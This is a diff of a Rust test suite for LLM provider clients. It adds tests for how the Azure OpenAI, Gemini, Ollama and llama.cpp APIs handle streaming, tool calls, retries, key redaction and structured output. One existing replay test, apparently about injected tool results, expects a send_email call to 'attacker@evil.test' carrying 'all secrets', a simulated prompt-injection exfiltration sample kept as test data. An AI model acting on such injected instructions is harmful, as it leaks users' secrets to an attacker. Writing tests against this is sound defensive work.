@@ -20,9 +20,9 @@ use wor_core::model::{
     Usage,
 };
 use wor_models::{
-    AnthropicProvider, CollectedStream, DiscardStream, ModelError, ModelProvider,
-    OpenAiCompatibleProvider, ProviderEndpoint, ProviderOptions, ReplayProvider, ReplayScript,
-    RetryPolicy,
+    AnthropicProvider, AzureOpenAiProvider, CollectedStream, DiscardStream, GeminiProvider,
+    ModelError, ModelProvider, OpenAiCompatibleProvider, ProviderEndpoint, ProviderOptions,
+    ReplayProvider, ReplayScript, RetryPolicy,
 };
 
 const API_KEY: &str = "sk-test-0123456789abcdefghijklmnopqrstuv";
@@ -82,11 +82,13 @@ fn conversation() -> ModelRequest {
                         id: "call_a".into(),
                         name: "lookup".into(),
                         arguments: json!({"word": "apple"}),
+                        thought_signature: None,
                     },
                     ToolCallRequest {
                         id: "call_b".into(),
                         name: "lookup".into(),
                         arguments: json!({"word": "pear"}),
+                        thought_signature: None,
                     },
                 ],
             }),
@@ -104,6 +106,7 @@ fn conversation() -> ModelRequest {
         tools: vec![lookup_tool()],
         max_output_tokens: 256,
         temperature: Some(0.5),
+        output_schema: None,
     }
 }
 
@@ -114,6 +117,7 @@ fn simple_request() -> ModelRequest {
         tools: Vec::new(),
         max_output_tokens: 64,
         temperature: None,
+        output_schema: None,
     }
 }
 
@@ -204,12 +208,14 @@ async fn openai_request_carries_tools_and_messages_and_two_parallel_calls_come_b
             ToolCallRequest {
                 id: "call_1".into(),
                 name: "lookup".into(),
-                arguments: json!({"word": "fig"})
+                arguments: json!({"word": "fig"}),
+                thought_signature: None,
             },
             ToolCallRequest {
                 id: "call_2".into(),
                 name: "lookup".into(),
-                arguments: json!({"word": "kiwi"})
+                arguments: json!({"word": "kiwi"}),
+                thought_signature: None,
             },
         ]
     );
@@ -664,12 +670,14 @@ async fn anthropic_stream_assembles_text_and_input_json_deltas() {
             ToolCallRequest {
                 id: "toolu_a".into(),
                 name: "lookup".into(),
-                arguments: json!({"word": "plum"})
+                arguments: json!({"word": "plum"}),
+                thought_signature: None,
             },
             ToolCallRequest {
                 id: "toolu_b".into(),
                 name: "lookup".into(),
                 arguments: json!({}),
+                thought_signature: None,
             },
         ],
         "a tool_use with no input deltas has empty arguments"
@@ -817,6 +825,7 @@ fn request_with(messages: Vec<ChatMessage>) -> ModelRequest {
         tools: Vec::new(),
         max_output_tokens: 100,
         temperature: None,
+        output_schema: None,
     }
 }
 
@@ -846,7 +855,8 @@ async fn replay_plays_turns_in_order_then_runs_out() {
         [ToolCallRequest {
             id: "c1".into(),
             name: "fetch".into(),
-            arguments: json!({"url": "https://example.com"})
+            arguments: json!({"url": "https://example.com"}),
+            thought_signature: None,
         }]
     );
     assert_eq!(first.stop_reason, StopReason::ToolUse);
@@ -932,6 +942,7 @@ async fn replay_marker_turn_fires_on_injected_tool_result_with_arguments_from_it
             id: "replay_1_1".into(),
             name: "send_email".into(),
             arguments: json!({"to": "attacker@evil.test", "body": "all secrets"}),
+            thought_signature: None,
         }]
     );
 
@@ -1122,5 +1133,516 @@ async fn replay_resuming_a_conversation_continues_where_it_was() {
     assert_eq!(
         next.message.text, "three",
         "neither `one` nor `two` is played again"
+    );
+}
+
+// ---------------------------------------------------------------- local servers' dialects
+//
+// Recorded from Ollama's and llama.cpp server's documentation of their OpenAI-compatible
+// `/v1/chat/completions`; the differences are listed in docs/models.md.
+
+fn local(server: &MockServer, streaming: bool) -> OpenAiCompatibleProvider {
+    OpenAiCompatibleProvider::new(
+        loopback_egress(),
+        ProviderEndpoint::new(format!("{}/v1", server.base_url()), None),
+        options(streaming),
+    )
+}
+
+fn sse_of(chunks: &[serde_json::Value]) -> String {
+    let mut body = String::new();
+    for chunk in chunks {
+        body.push_str(&format!("data: {chunk}\n\n"));
+    }
+    body.push_str("data: [DONE]\n\n");
+    body
+}
+
+#[tokio::test]
+async fn ollama_streams_whole_tool_calls_without_index_says_stop_and_takes_no_key() {
+    // Each call arrives whole in one chunk, without `index`; the turn ends with `stop`; usage
+    // comes in a last chunk with no choices.
+    let body = sse_of(&[
+        json!({"id": "chatcmpl-7", "object": "chat.completion.chunk", "model": "llama3.2",
+            "choices": [{"index": 0, "delta": {"role": "assistant", "content": "",
+                "tool_calls": [{"id": "call_k2x", "type": "function",
+                    "function": {"name": "lookup", "arguments": "{\"word\":\"apple\"}"}}]},
+                "finish_reason": null}]}),
+        json!({"id": "chatcmpl-7", "object": "chat.completion.chunk", "model": "llama3.2",
+            "choices": [{"index": 0, "delta": {"role": "assistant", "content": "",
+                "tool_calls": [{"id": "call_9qa", "type": "function",
+                    "function": {"name": "lookup", "arguments": "{\"word\":\"pear\"}"}}]},
+                "finish_reason": null}]}),
+        json!({"id": "chatcmpl-7", "object": "chat.completion.chunk", "model": "llama3.2",
+            "choices": [{"index": 0, "delta": {"role": "assistant", "content": ""},
+                "finish_reason": "stop"}]}),
+        json!({"id": "chatcmpl-7", "object": "chat.completion.chunk", "model": "llama3.2",
+            "choices": [], "usage": {"prompt_tokens": 61, "completion_tokens": 24, "total_tokens": 85}}),
+    ]);
+    let server = MockServer::start(vec![sse_reply(&body, 37)]).await;
+    let mut sink = CollectedStream::default();
+    let response = local(&server, true)
+        .complete(&conversation(), &mut sink)
+        .await
+        .unwrap();
+    let calls: Vec<(&str, serde_json::Value)> = response
+        .message
+        .tool_calls
+        .iter()
+        .map(|c| (c.id.as_str(), c.arguments.clone()))
+        .collect();
+    assert_eq!(
+        calls,
+        [
+            ("call_k2x", json!({"word": "apple"})),
+            ("call_9qa", json!({"word": "pear"}))
+        ]
+    );
+    assert_eq!(response.stop_reason, StopReason::ToolUse);
+    assert_eq!(
+        response.usage,
+        Usage {
+            input_tokens: 61,
+            output_tokens: 24
+        }
+    );
+    let request = &server.requests()[0];
+    assert_eq!(request.header("authorization"), None, "no key, no header");
+    assert_eq!(request.json()["stream_options"]["include_usage"], true);
+}
+
+#[tokio::test]
+async fn ollama_non_streamed_tool_calls_and_usage() {
+    let server = MockServer::start(vec![json_reply(
+        200,
+        &[],
+        r#"{"id":"chatcmpl-3","object":"chat.completion","created":1733000000,"model":"qwen2.5",
+            "system_fingerprint":"fp_ollama",
+            "choices":[{"index":0,"message":{"role":"assistant","content":"",
+                "tool_calls":[{"id":"call_ab12","index":0,"type":"function",
+                    "function":{"name":"lookup","arguments":"{\"word\":\"fig\"}"}}]},
+                "finish_reason":"tool_calls"}],
+            "usage":{"prompt_tokens":40,"completion_tokens":17,"total_tokens":57}}"#,
+    )])
+    .await;
+    let response = local(&server, false)
+        .complete(&conversation(), &mut DiscardStream)
+        .await
+        .unwrap();
+    assert_eq!(response.message.text, "");
+    assert_eq!(response.message.tool_calls[0].id, "call_ab12");
+    assert_eq!(
+        response.message.tool_calls[0].arguments,
+        json!({"word": "fig"})
+    );
+    assert_eq!(response.stop_reason, StopReason::ToolUse);
+    assert_eq!(response.usage.input_tokens, 40);
+    assert_eq!(server.requests()[0].header("authorization"), None);
+}
+
+#[tokio::test]
+async fn llama_cpp_streams_reasoning_apart_and_usage_with_timings_in_the_finishing_chunk() {
+    // Reasoning arrives as `reasoning_content` (not answer text); argument fragments are keyed
+    // by `index` with the id in the first; the finishing chunk carries `usage` and `timings`.
+    let body = sse_of(&[
+        json!({"choices": [{"index": 0, "delta": {"role": "assistant", "content": null}, "finish_reason": null}],
+            "created": 1733000000, "id": "chatcmpl-Xq", "model": "gpt-oss-20b", "object": "chat.completion.chunk"}),
+        json!({"choices": [{"index": 0, "delta": {"reasoning_content": "The user wants a word."}, "finish_reason": null}],
+            "object": "chat.completion.chunk"}),
+        json!({"choices": [{"index": 0, "delta": {"tool_calls": [{"index": 0, "id": "Hx8vQ2", "type": "function",
+            "function": {"name": "lookup", "arguments": ""}}]}, "finish_reason": null}], "object": "chat.completion.chunk"}),
+        json!({"choices": [{"index": 0, "delta": {"tool_calls": [{"index": 0, "function": {"arguments": "{\"word\":"}}]},
+            "finish_reason": null}], "object": "chat.completion.chunk"}),
+        json!({"choices": [{"index": 0, "delta": {"tool_calls": [{"index": 0, "function": {"arguments": "\"plum\"}"}}]},
+            "finish_reason": null}], "object": "chat.completion.chunk"}),
+        json!({"choices": [{"index": 0, "delta": {}, "finish_reason": "tool_calls"}], "object": "chat.completion.chunk",
+            "usage": {"completion_tokens": 31, "prompt_tokens": 118, "total_tokens": 149},
+            "timings": {"prompt_n": 118, "prompt_ms": 80.2, "predicted_n": 31, "predicted_ms": 410.0}}),
+    ]);
+    let server = MockServer::start(vec![sse_reply(&body, 53)]).await;
+    let mut sink = CollectedStream::default();
+    let response = local(&server, true)
+        .complete(&conversation(), &mut sink)
+        .await
+        .unwrap();
+    assert_eq!(response.message.text, "", "reasoning is not answer text");
+    assert!(sink.text().is_empty(), "{sink:?}");
+    assert_eq!(response.message.tool_calls.len(), 1);
+    assert_eq!(response.message.tool_calls[0].id, "Hx8vQ2");
+    assert_eq!(
+        response.message.tool_calls[0].arguments,
+        json!({"word": "plum"})
+    );
+    assert_eq!(response.stop_reason, StopReason::ToolUse);
+    assert_eq!(
+        response.usage,
+        Usage {
+            input_tokens: 118,
+            output_tokens: 31
+        }
+    );
+}
+
+#[tokio::test]
+async fn llama_cpp_timings_count_when_usage_is_missing_and_its_errors_are_summarised() {
+    // Builds that report only their own `timings` still count against token budgets.
+    let body = sse_of(&[
+        json!({"choices": [{"index": 0, "delta": {"content": "Plums are fruit."}, "finish_reason": null}]}),
+        json!({"choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}],
+            "timings": {"prompt_n": 20, "predicted_n": 5}}),
+    ]);
+    let server = MockServer::start(vec![
+        sse_reply(&body, 64),
+        json_reply(
+            400,
+            &[],
+            r#"{"error":{"code":400,"message":"tools param requires --jinja flag","type":"invalid_request_error"}}"#,
+        ),
+    ])
+    .await;
+    let provider = local(&server, true);
+    let response = provider
+        .complete(&simple_request(), &mut DiscardStream)
+        .await
+        .unwrap();
+    assert_eq!(response.message.text, "Plums are fruit.");
+    assert_eq!(response.stop_reason, StopReason::EndTurn);
+    assert_eq!(
+        response.usage,
+        Usage {
+            input_tokens: 20,
+            output_tokens: 5
+        }
+    );
+    let error = provider
+        .complete(&conversation(), &mut DiscardStream)
+        .await
+        .unwrap_err();
+    match &error {
+        ModelError::HttpStatus {
+            status, summary, ..
+        } => {
+            assert_eq!(*status, 400);
+            assert_eq!(summary, "tools param requires --jinja flag");
+        }
+        other => panic!("{other:?}"),
+    }
+}
+
+// ---------------------------------------------------------------- Azure OpenAI
+
+fn azure(server: &MockServer, streaming: bool) -> AzureOpenAiProvider {
+    AzureOpenAiProvider::new(
+        loopback_egress(),
+        ProviderEndpoint::new(server.base_url(), Some(API_KEY.into())),
+        options(streaming),
+    )
+}
+
+#[tokio::test]
+async fn azure_sends_to_the_deployment_with_an_api_key_header_and_skips_filter_chunks() {
+    // The first chunk carries only the prompt's content-filter results and no choices.
+    let body = sse_of(&[
+        json!({"choices": [], "created": 0, "id": "", "model": "", "object": "",
+            "prompt_filter_results": [{"prompt_index": 0, "content_filter_results": {
+                "hate": {"filtered": false, "severity": "safe"}}}]}),
+        json!({"choices": [{"index": 0, "delta": {"role": "assistant", "content": "Looking"},
+            "content_filter_results": {}, "finish_reason": null}], "id": "chatcmpl-A1", "model": "gpt-4o-2024-08-06",
+            "object": "chat.completion.chunk"}),
+        json!({"choices": [{"index": 0, "delta": {"tool_calls": [{"index": 0, "id": "call_Az", "type": "function",
+            "function": {"name": "lookup", "arguments": "{\"word\":\"kiwi\"}"}}]}, "finish_reason": null}],
+            "object": "chat.completion.chunk"}),
+        json!({"choices": [{"index": 0, "delta": {}, "finish_reason": "tool_calls"}], "object": "chat.completion.chunk"}),
+        json!({"choices": [], "object": "chat.completion.chunk",
+            "usage": {"prompt_tokens": 90, "completion_tokens": 14, "total_tokens": 104}}),
+    ]);
+    let server = MockServer::start(vec![sse_reply(&body, 41)]).await;
+    let mut request = conversation();
+    request.model = "gpt-4o-prod".into();
+    let mut sink = CollectedStream::default();
+    let response = azure(&server, true)
+        .complete(&request, &mut sink)
+        .await
+        .unwrap();
+    assert_eq!(response.message.text, "Looking");
+    assert_eq!(response.message.tool_calls[0].id, "call_Az");
+    assert_eq!(response.stop_reason, StopReason::ToolUse);
+    assert_eq!(response.usage.input_tokens, 90);
+    assert_eq!(response.usage.output_tokens, 14);
+    let sent = &server.requests()[0];
+    assert_eq!(
+        sent.request_line,
+        "POST /openai/deployments/gpt-4o-prod/chat/completions?api-version=2024-10-21 HTTP/1.1"
+    );
+    assert_eq!(sent.header("api-key"), Some(API_KEY));
+    assert_eq!(sent.header("authorization"), None);
+    let body = sent.json();
+    assert!(
+        body.get("model").is_none(),
+        "the deployment names the model"
+    );
+    assert_eq!(body["tools"][0]["function"]["name"], "lookup");
+}
+
+#[tokio::test]
+async fn azure_waits_out_a_429_and_redacts_a_rejected_key() {
+    let server = MockServer::start(vec![
+        json_reply(
+            429,
+            &["retry-after: 1"],
+            r#"{"error":{"code":"429","message":"Requests to the ChatCompletions_Create Operation have exceeded the rate limit. Please retry after 1 second."}}"#,
+        ),
+        json_reply(
+            200,
+            &[],
+            r#"{"choices":[{"index":0,"message":{"role":"assistant","content":"ok"},"finish_reason":"stop"}],
+                "usage":{"prompt_tokens":5,"completion_tokens":1,"total_tokens":6}}"#,
+        ),
+        json_reply(
+            401,
+            &[],
+            &format!(
+                r#"{{"error":{{"code":"401","message":"Access denied due to invalid subscription key {API_KEY} or wrong API endpoint."}}}}"#
+            ),
+        ),
+    ])
+    .await;
+    let provider = AzureOpenAiProvider::new(
+        loopback_egress(),
+        ProviderEndpoint::new(
+            format!(
+                "{}/openai?api-version=2025-01-01-preview",
+                server.base_url()
+            ),
+            Some(API_KEY.into()),
+        ),
+        options(false),
+    );
+    let mut request = simple_request();
+    request.model = "mini".into();
+    let response = provider
+        .complete(&request, &mut DiscardStream)
+        .await
+        .unwrap();
+    assert_eq!(response.message.text, "ok");
+    let requests = server.requests();
+    let waited = requests[1].at.duration_since(requests[0].at);
+    assert!(waited >= Duration::from_millis(900), "{waited:?}");
+    assert!(
+        requests[1]
+            .request_line
+            .contains("/openai/deployments/mini/chat/completions?api-version=2025-01-01-preview")
+    );
+    let error = provider
+        .complete(&request, &mut DiscardStream)
+        .await
+        .unwrap_err();
+    assert_key_hidden(&error);
+    assert!(
+        matches!(error, ModelError::HttpStatus { status: 401, .. }),
+        "{error:?}"
+    );
+    assert!(error.to_string().contains("Access denied"), "{error}");
+}
+
+// ---------------------------------------------------------------- Gemini
+
+fn gemini(server: &MockServer, streaming: bool) -> GeminiProvider {
+    GeminiProvider::new(
+        loopback_egress(),
+        ProviderEndpoint::new(server.base_url(), Some(API_KEY.into())),
+        options(streaming),
+    )
+}
+
+fn gemini_stream(finished: bool) -> String {
+    let mut chunks = vec![
+        json!({"candidates": [{"content": {"role": "model", "parts": [{"text": "Let me ", "thought": true}]}, "index": 0}],
+            "usageMetadata": {"promptTokenCount": 70, "totalTokenCount": 70}, "modelVersion": "gemini-2.5-flash"}),
+        json!({"candidates": [{"content": {"role": "model", "parts": [{"text": "Checking "}]}, "index": 0}],
+            "usageMetadata": {"promptTokenCount": 70, "candidatesTokenCount": 2, "totalTokenCount": 72}}),
+        json!({"candidates": [{"content": {"role": "model", "parts": [{"text": "both."}]}, "index": 0}],
+            "usageMetadata": {"promptTokenCount": 70, "candidatesTokenCount": 4, "totalTokenCount": 74}}),
+    ];
+    if finished {
+        chunks.push(json!({"candidates": [{"content": {"role": "model", "parts": [
+                {"functionCall": {"name": "lookup", "args": {"word": "apple"}}, "thoughtSignature": "Q2lRQmp6MWY="},
+                {"functionCall": {"name": "lookup", "args": {"word": "pear"}}}]},
+            "finishReason": "STOP", "index": 0}],
+            "usageMetadata": {"promptTokenCount": 70, "candidatesTokenCount": 20, "thoughtsTokenCount": 33, "totalTokenCount": 123}}));
+    }
+    let mut body = String::new();
+    for chunk in chunks {
+        body.push_str(&format!("data: {chunk}\r\n\r\n"));
+    }
+    body
+}
+
+#[tokio::test]
+async fn gemini_streams_text_and_function_calls_with_their_signature_and_counts_thinking() {
+    let server = MockServer::start(vec![sse_reply(&gemini_stream(true), 45)]).await;
+    let mut request = conversation();
+    request.model = "gemini-2.5-flash".into();
+    let mut sink = CollectedStream::default();
+    let response = gemini(&server, true)
+        .complete(&request, &mut sink)
+        .await
+        .unwrap();
+    assert_eq!(
+        response.message.text, "Checking both.",
+        "thought parts are not text"
+    );
+    assert_eq!(sink.text_deltas, ["Checking ", "both."]);
+    let calls = &response.message.tool_calls;
+    assert_eq!(calls.len(), 2);
+    assert_eq!(calls[0].arguments, json!({"word": "apple"}));
+    assert_eq!(calls[0].thought_signature.as_deref(), Some("Q2lRQmp6MWY="));
+    assert_eq!(calls[1].thought_signature, None);
+    assert_ne!(calls[0].id, calls[1].id);
+    assert_eq!(response.stop_reason, StopReason::ToolUse);
+    assert_eq!(
+        response.usage,
+        Usage {
+            input_tokens: 70,
+            output_tokens: 53
+        },
+        "thinking is billed as output"
+    );
+    let sent = &server.requests()[0];
+    assert_eq!(
+        sent.request_line,
+        "POST /v1beta/models/gemini-2.5-flash:streamGenerateContent?alt=sse HTTP/1.1"
+    );
+    assert_eq!(sent.header("x-goog-api-key"), Some(API_KEY));
+    assert_eq!(sent.header("authorization"), None);
+    assert!(
+        !sent.request_line.contains(API_KEY),
+        "the key is never in the URL"
+    );
+    let body = sent.json();
+    assert_eq!(
+        body["systemInstruction"]["parts"][0]["text"],
+        "You are terse."
+    );
+    assert_eq!(body["contents"][1]["role"], "model");
+    assert_eq!(
+        body["contents"][2]["parts"][1]["functionResponse"],
+        json!({"name": "lookup", "response": {"error": "not found"}, "id": "call_b"})
+    );
+    assert_eq!(
+        body["tools"][0]["functionDeclarations"][0]["name"],
+        "lookup"
+    );
+}
+
+#[tokio::test]
+async fn gemini_stream_without_a_finish_reason_is_truncated_with_usage_so_far() {
+    let server = MockServer::start(vec![sse_reply(&gemini_stream(false), 64)]).await;
+    let error = gemini(&server, true)
+        .complete(&simple_request(), &mut DiscardStream)
+        .await
+        .unwrap_err();
+    match error {
+        ModelError::TruncatedStream { usage_so_far } => {
+            assert_eq!(usage_so_far.input_tokens, 70);
+            assert_eq!(usage_so_far.output_tokens, 4);
+        }
+        other => panic!("{other:?}"),
+    }
+}
+
+#[tokio::test]
+async fn gemini_honours_the_retry_delay_in_its_error_body_and_redacts_a_rejected_key() {
+    let server = MockServer::start(vec![
+        json_reply(
+            429,
+            &[],
+            r#"{"error":{"code":429,"message":"You exceeded your current quota.","status":"RESOURCE_EXHAUSTED",
+                "details":[{"@type":"type.googleapis.com/google.rpc.RetryInfo","retryDelay":"1s"}]}}"#,
+        ),
+        json_reply(
+            200,
+            &[],
+            r#"{"candidates":[{"content":{"role":"model","parts":[{"text":"ok"}]},"finishReason":"STOP","index":0}],
+                "usageMetadata":{"promptTokenCount":4,"candidatesTokenCount":1,"totalTokenCount":5}}"#,
+        ),
+        json_reply(
+            400,
+            &[],
+            &format!(
+                r#"{{"error":{{"code":400,"message":"API key not valid: {API_KEY}. Please pass a valid API key.","status":"INVALID_ARGUMENT"}}}}"#
+            ),
+        ),
+    ])
+    .await;
+    let provider = gemini(&server, false);
+    let response = provider
+        .complete(&simple_request(), &mut DiscardStream)
+        .await
+        .unwrap();
+    assert_eq!(response.message.text, "ok");
+    assert_eq!(response.stop_reason, StopReason::EndTurn);
+    let requests = server.requests();
+    assert_eq!(
+        requests[1].request_line,
+        "POST /v1beta/models/test-model:generateContent HTTP/1.1"
+    );
+    let waited = requests[1].at.duration_since(requests[0].at);
+    assert!(waited >= Duration::from_millis(900), "{waited:?}");
+    let error = provider
+        .complete(&simple_request(), &mut DiscardStream)
+        .await
+        .unwrap_err();
+    assert_key_hidden(&error);
+    assert!(error.to_string().contains("API key not valid"), "{error}");
+}
+
+// ---------------------------------------------------------------- structured output
+
+#[tokio::test]
+async fn an_output_schema_is_asked_for_natively_where_the_provider_has_it() {
+    let schema =
+        json!({"type": "object", "required": ["n"], "properties": {"n": {"type": "integer"}}});
+    let server = MockServer::start(vec![json_reply(
+        200,
+        &[],
+        r#"{"choices":[{"index":0,"message":{"role":"assistant","content":"{\"n\":1}"},"finish_reason":"stop"}]}"#,
+    )])
+    .await;
+    let mut request = simple_request();
+    request.output_schema = Some(schema.clone());
+    openai(&server, false)
+        .complete(&request, &mut DiscardStream)
+        .await
+        .unwrap();
+    assert_eq!(
+        server.requests()[0].json()["response_format"],
+        json!({"type": "json_schema", "json_schema": {"name": "output", "schema": schema, "strict": false}})
+    );
+
+    let server = MockServer::start(vec![json_reply(
+        200,
+        &[],
+        r#"{"candidates":[{"content":{"role":"model","parts":[{"text":"{\"n\":1}"}]},"finishReason":"STOP","index":0}]}"#,
+    )])
+    .await;
+    gemini(&server, false)
+        .complete(&request, &mut DiscardStream)
+        .await
+        .unwrap();
+    let config = &server.requests()[0].json()["generationConfig"];
+    assert_eq!(config["responseMimeType"], "application/json");
+    assert_eq!(config["responseJsonSchema"], schema);
+    // With tools offered, Gemini is not constrained (the turn may call a tool instead).
+    let mut with_tools = request.clone();
+    with_tools.tools = vec![lookup_tool()];
+    gemini(&server, false)
+        .complete(&with_tools, &mut DiscardStream)
+        .await
+        .unwrap();
+    assert!(
+        server.requests()[1].json()["generationConfig"]
+            .get("responseJsonSchema")
+            .is_none()
     );
 }
